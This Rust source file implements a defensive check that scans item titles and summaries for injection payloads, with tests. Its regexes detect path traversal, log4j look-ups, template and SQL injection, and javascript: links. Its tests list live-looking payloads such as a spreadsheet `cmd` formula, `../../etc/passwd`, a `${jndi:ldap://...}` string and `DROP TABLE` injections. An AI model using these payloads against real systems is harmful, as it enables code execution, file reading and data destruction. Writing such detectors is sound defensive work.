//! `security.injection-payload`: texts made to attack another program.

use std::sync::LazyLock;

use regex::Regex;

use crate::checks::{Check, Docs, ItemUnit, Run, Thresholds, Wave};
use crate::model::{Capability, Confidence, Content, Failure, FieldRole, Severity, TypeKind, Verdict};

/// What it is, the pattern, and whether it counts at the start of the title only.
type Payload = (&'static str, Regex);

static PAYLOADS: LazyLock<Vec<Payload>> = LazyLock::new(|| {
    [
        ("path traversal", r"\.\.[/\\]\.\.[/\\]"),
        ("log4j look-up", r"(?i)\$\{(?:jndi|env|sys|lower|upper):"),
        ("template expression", r"\{\{\s*\d+\s*\*\s*\d+\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%[=@]"),
        (
            "SQL injection",
            r#"(?i)['")]\s*;\s*(?:drop|delete|truncate|alter|update|insert)\s+\w|['"]\s*or\s+['"]?\w+['"]?\s*=\s*['"]?\w|['")]\s*union\s+(?:all\s+)?select\b"#,
        ),
        ("script link in Markdown", r"(?i)\]\(\s*javascript:"),
    ]
    .into_iter()
    .map(|(name, pattern)| (name, Regex::new(pattern).expect("the patterns are constant and tested")))
    .collect()
});

/// `=HYPERLINK(…`, `@SUM(…`, `=cmd|' /C calc'!A0`: what spreadsheets run when a cell begins with it.
static FORMULA: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\s*(?:=\s*[A-Za-z][A-Za-z0-9_.]*\s*|[@+\-][A-Za-z][A-Za-z0-9_.]*)[(|!]")
        .expect("the pattern is constant and tested")
});

/// The check.
pub static CHECK: Check = Check {
    id: "security.injection-payload",
    version: 1,
    title: "Text that attacks another program",
    severity: Severity::Medium,
    confidence: Confidence::Firm,
    wave: Wave::Core,
    applies: &[],
    needs: &[Capability::Content],
    settings: &[],
    docs: Docs {
        looks_at: "Title and summary of every item except comments. It fails when they contain what no headline \
                   contains: a spreadsheet formula at the start, `../../`, a log4j look-up, a template expression \
                   with a sum, the end of an SQL statement with a new one behind it, or a script link in Markdown.",
        why: "Titles travel: into exports, logs, search indexes, newsletters and spreadsheets. Such a text is the trace \
              of somebody who tried whether one of them runs it, and it may still work in the next one.",
        fix: "Find out who stored it and whether their account is theirs; then delete the text. A page that explains \
              such code may accept the finding.",
        example: "A title `=HYPERLINK(\"https://elsewhere.example/\", \"Invoice\")`.",
        sources: &["OWASP CSV Injection", "CVE-2021-44228", "CWE-22", "CWE-89", "CWE-1336"],
    },
    run: Run::Item(run),
};

fn run(unit: &ItemUnit<'_>, _: &Thresholds) -> Verdict {
    if unit.item.kind == TypeKind::Comment {
        return Verdict::NotApplicable;
    }
    let mut samples: Vec<(&str, String)> = Vec::new();
    if let Some(found) = FORMULA.find(&unit.item.title) {
        samples.push(("spreadsheet formula", format!("title: {}", found.as_str())));
    }
    find("title", &unit.item.title, &mut samples);
    for value in unit.item.fields.iter().filter(|it| it.role == FieldRole::Summary) {
        if let Content::Text(text) | Content::RichText { source: text, .. } = &value.content {
            find(value.field.as_str(), text, &mut samples);
        }
    }
    let Some((first, _)) = samples.first() else {
        return Verdict::Pass;
    };
    Verdict::Fail(
        Failure::new(format!("the text holds a payload against another program: {first}"))
            .with_samples("payloads", samples.iter().map(|(name, text)| format!("{name}, {text}"))),
    )
}

fn find(field: &str, text: &str, samples: &mut Vec<(&str, String)>) {
    for (name, pattern) in &*PAYLOADS {
        if let Some(found) = pattern.find(text) {
            let snippet: String = found.as_str().chars().take(60).collect();
            samples.push((name, format!("{field}: {snippet}")));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::CHECK;
    use crate::checks::links::fixture::{failure, item, judge_item, summary};
    use crate::model::{TypeKind, Verdict};

    fn judge(title: &str) -> Verdict {
        let mut it = item();
        it.title = title.to_owned();
        judge_item(&CHECK, &it, &[])
    }

    #[test]
    fn payloads_in_titles_fail() {
        for title in [
            "=HYPERLINK(\"https://elsewhere.example\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd",
            "+SUM(A1)",
            "=IMPORTXML (x)",
            "../../etc/passwd",
            "..\\..\\windows",
            "${jndi:ldap://elsewhere.example/a}",
            "{{7*7}}",
            "<%= 7 %>",
            "Robert'); DROP TABLE students;--",
            "' OR '1'='1",
            "') UNION SELECT 1",
            "[Привет](javascript:alert(1))",
        ] {
            failure(judge(title));
        }
    }

    #[test]
    fn headlines_pass() {
        for title in [
            "About us",
            "+49 30 123456",
            "-50 % (today)",
            "@conduit (our handle)",
            "=> read on",
            "Don't drop tables; update often",
            "Rock 'n' roll or jazz",
            "今日のニュース = 良い",
            "{{ name }} and ${price}",
            "Up../down",
        ] {
            assert_eq!(judge(title), Verdict::Pass, "{title}");
        }
    }

    #[test]
    fn summaries_are_read_and_comments_are_not() {
        let mut it = item();
        it.fields.push(summary("see {{ 7 * 7 }}"));
        let found = failure(judge_item(&CHECK, &it, &[]));
        assert_eq!(found.evidence.0["payloads"][0], "template expression, excerpt: {{ 7 * 7 }}");
        it.kind = TypeKind::Comment;
        assert_eq!(judge_item(&CHECK, &it, &[]), Verdict::NotApplicable);
    }
}
